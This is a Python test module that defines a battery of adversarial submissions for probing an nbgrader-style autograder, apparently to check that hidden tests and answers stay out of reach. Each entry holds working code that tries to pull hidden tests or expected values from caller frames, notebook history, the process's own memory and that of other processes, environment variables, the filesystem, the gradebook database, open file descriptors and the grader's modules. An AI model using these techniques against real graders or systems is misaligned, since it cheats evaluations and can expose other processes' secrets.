"""Group B: reading tests, answers and expected values. What is found is printed, so that it shows."""
# ruff: noqa: E501 - code in strings stands as it would be handed in

from __future__ import annotations

from attack_corpus.attack import attack

# Prints what looks like a hidden test, wherever it is found.
LOOT = """
import os, re, sys
pattern = re.compile("canar" + "y-[0-9a-f]{16}|HIDDEN" + " TESTS")
def loot(where, text):
    if isinstance(text, bytes):
        text = text.decode("latin-1")
    found = pattern.findall(text)
    if found:
        print("LO" + "OT", where, found[:3], text[:2000])
"""

ATTACKS = (
    attack(
        "expected-from-caller",
        "B",
        "22",
        "looks for the expected value in the frames of its callers",
        cells={
            "mean_rows": """
                import sys
                def mean_rows(x):
                    if x.shape == (2, 3):
                        return np.array([1.0, 4.0])
                    frame = sys._getframe(1)
                    while frame is not None:
                        for names in (frame.f_locals, frame.f_globals):
                            if "expected" in names:
                                return names["expected"]
                        frame = frame.f_back
                    return np.zeros(x.shape[0])
            """
        },
    ),
    attack(
        "expected-from-history",
        "B",
        "22",
        "runs the text of the test cell itself to learn what it expects",
        before=LOOT,
        cells={
            "count": """
                def count_params(n_in, n_out):
                    source = In[-1]
                    loot("history", source)
                    for value in re.findall(r"count_params\\((\\d+), (\\d+)\\) == (\\d+)", source):
                        if (int(value[0]), int(value[1])) == (n_in, n_out):
                            return int(value[2])
                    return -1
            """
        },
    ),
    attack(
        "print-test-source",
        "B",
        "23",
        "prints the history and the output history from inside a test",
        before=LOOT,
        cells={
            "softmax": "def softmax(z):\n    print(In[-1], _ih, _oh)\n    loot('In', repr(In))\n    return z"
        },
    ),
    attack(
        "search-objects",
        "B",
        "25",
        "searches every object of the collector and every module",
        before=LOOT,
        cells={
            "mean_rows": """
                import gc
                def mean_rows(x):
                    for thing in gc.get_objects():
                        try:
                            if isinstance(thing, (str, bytes)):
                                loot("object", thing)
                            elif isinstance(thing, dict):
                                for value in list(thing.values()):
                                    if isinstance(value, (str, bytes)):
                                        loot("dict", value)
                        except Exception:
                            continue
                    return np.zeros(x.shape[0])
            """
        },
    ),
    attack(
        "scan-memory",
        "B",
        "25",
        "reads its own memory from end to end while a test runs",
        before=LOOT,
        cells={
            "mean_rows": """
                def mean_rows(x):
                    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
                        for line in maps:
                            span, rights = line.split()[:2]
                            start, end = (int(part, 16) for part in span.split("-"))
                            if "r" not in rights or end - start > 1 << 30:
                                continue
                            for at in range(start, end, 1 << 24):
                                try:
                                    memory.seek(at)
                                    data = memory.read(min(1 << 24, end - at))
                                except (OSError, ValueError, OverflowError):
                                    break
                                for found in re.findall(b"canar" + b"y-[0-9a-f]{16}", data):
                                    print("LO" + "OT memory", found)
                    return np.zeros(x.shape[0])
            """
        },
    ),
    attack(
        "open-source-folder",
        "B",
        "26",
        "opens the instructor's notebook where nbgrader keeps it",
        before=LOOT
        + """
up = "."
for _ in range(6):
    for name in ("source", "release", "submitted", "autograded"):
        for folder, _, names in os.walk(os.path.join(up, name)):
            for file in names:
                try:
                    loot(file, open(os.path.join(folder, file), "rb").read())
                except OSError:
                    pass
    up += "/.."
""",
    ),
    attack(
        "search-file-system",
        "B",
        "28",
        "searches all files it can see for notebooks and databases",
        before=LOOT
        + """
seen = 0
for top in ["/" + name for name in os.listdir("/") if name not in ("proc", "sys", "usr", "dev")]:
    for folder, folders, names in os.walk(top):
        folders[:] = [name for name in folders if name not in ("site-packages", "lib", "node_modules", ".git")]
        for file in names:
            if file.endswith((".ipynb", ".db", ".json", ".toml", ".pkl", ".txt", ".log")) and seen < 3000:
                seen += 1
                try:
                    loot(file, open(os.path.join(folder, file), "rb").read(1 << 20))
                except OSError:
                    pass
""",
    ),
    attack(
        "read-database",
        "B",
        "27",
        "reads hidden cells from the gradebook",
        before=LOOT
        + """
import sqlite3
for up in range(7):
    path = "../" * up + "gradebook.db"
    if os.path.exists(path):
        for row in sqlite3.connect(path).execute("select source from source_cell"):
            loot("database", str(row))
""",
    ),
    attack(
        "memory-of-others",
        "B",
        "29",
        "opens the memory of every process it can see",
        before=LOOT
        + """
for pid in [name for name in os.listdir("/proc") if name.isdigit()] if os.access("/proc", os.R_OK) else []:
    if int(pid) == os.getpid():
        continue
    try:
        for line in open(f"/proc/{pid}/maps"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                memory.seek(start)
                loot(pid, memory.read(min(end - start, 1 << 20)))
    except (OSError, ValueError, OverflowError):
        pass
""",
    ),
    attack(
        "environment-of-others",
        "B",
        "30",
        "prints environments and command lines",
        before=LOOT
        + """
print(dict(os.environ))
for pid in range(1, 70000, 1):
    for name in ("environ", "cmdline"):
        try:
            text = open(f"/proc/{pid}/{name}", "rb").read()
            loot(name, text)
            if pid != os.getpid() and b"nbgrader" in text.lower():
                print("LO" + "OT", pid, text)
        except OSError:
            break
""",
    ),
    attack(
        "source-from-traceback",
        "B",
        "31",
        "takes the source of its callers from the stack, linecache and inspect",
        before=LOOT,
        cells={
            "softmax": """
                def softmax(z):
                    import inspect, linecache, traceback
                    for info in inspect.stack(context=30):
                        loot("stack", "".join(info.code_context or []))
                    loot("cache", repr(linecache.cache))
                    loot("traceback", "".join(traceback.format_stack(limit=50)))
                    return z
            """
        },
    ),
    attack(
        "log-inputs",
        "B",
        "32",
        "prints and raises what hidden tests give it",
        cells={
            "mean_rows": "def mean_rows(x):\n    print('SEEN', x.tolist())\n    raise ValueError(f'SEEN {x.tolist()}')",
            "count": """
                import sys
                def count_params(n_in, n_out):
                    print("SEEN", n_in, n_out, file=sys.stderr)
                    display(f"SEEN {n_in} {n_out}")
                    return -1
            """,
        },
    ),
    attack(
        "inherited-descriptors",
        "B",
        "35",
        "reads whatever its descriptors lead to",
        before=LOOT
        + """
for fd in range(256):
    try:
        loot(fd, os.readlink(f"/proc/self/fd/{fd}"))
        loot(fd, os.pread(fd, 1 << 20, 0))
    except OSError:
        pass
""",
    ),
    attack(
        "core-dump",
        "B",
        "36",
        "asks for a core file and crashes",
        before="""
            import resource
            try:
                resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30))
            except (ValueError, OSError):
                pass
        """,
        cells={"fit": "def fit(xs, ys):\n    import os\n    os.abort()"},
    ),
    attack(
        "watch-frames",
        "B",
        "31",
        "a thread watches all frames for names that tests use",
        before=LOOT
        + """
import threading, time
def watch():
    while True:
        for frame in list(sys._current_frames().values()):
            while frame is not None:
                for name, value in list(frame.f_locals.items()):
                    if name in ("expected", "canary", "reference", "big", "source", "raw"):
                        loot(name, repr(value)[:5000])
                frame = frame.f_back
        time.sleep(0.002)
threading.Thread(target=watch, daemon=True).start()
""",
    ),
    attack(
        "grader-modules",
        "B",
        "34",
        "looks through the grader's own modules for labs and tests",
        before=LOOT
        + """
for name, module in list(sys.modules.items()):
    if name.startswith(("labgrade", "nbgrader")):
        print(name)
        for key, value in list(vars(module).items()):
            if not key.startswith("__"):
                loot(name, repr(value)[:3000])
""",
    ),
    attack(
        "solution-from-package",
        "B",
        "26",
        "imports everything that might hold answers",
        before=LOOT
        + """
import importlib
for name in ("solution", "solutions", "answers", "reference", "tests", "exercises", "labbuild", "labs", "labgrade.verify.judge"):
    try:
        module = importlib.import_module(name)
        print("IMPORTED", name, getattr(module, "__path__", ""))
        loot(name, repr(vars(module)))
    except Exception:
        pass
""",
    ),
)
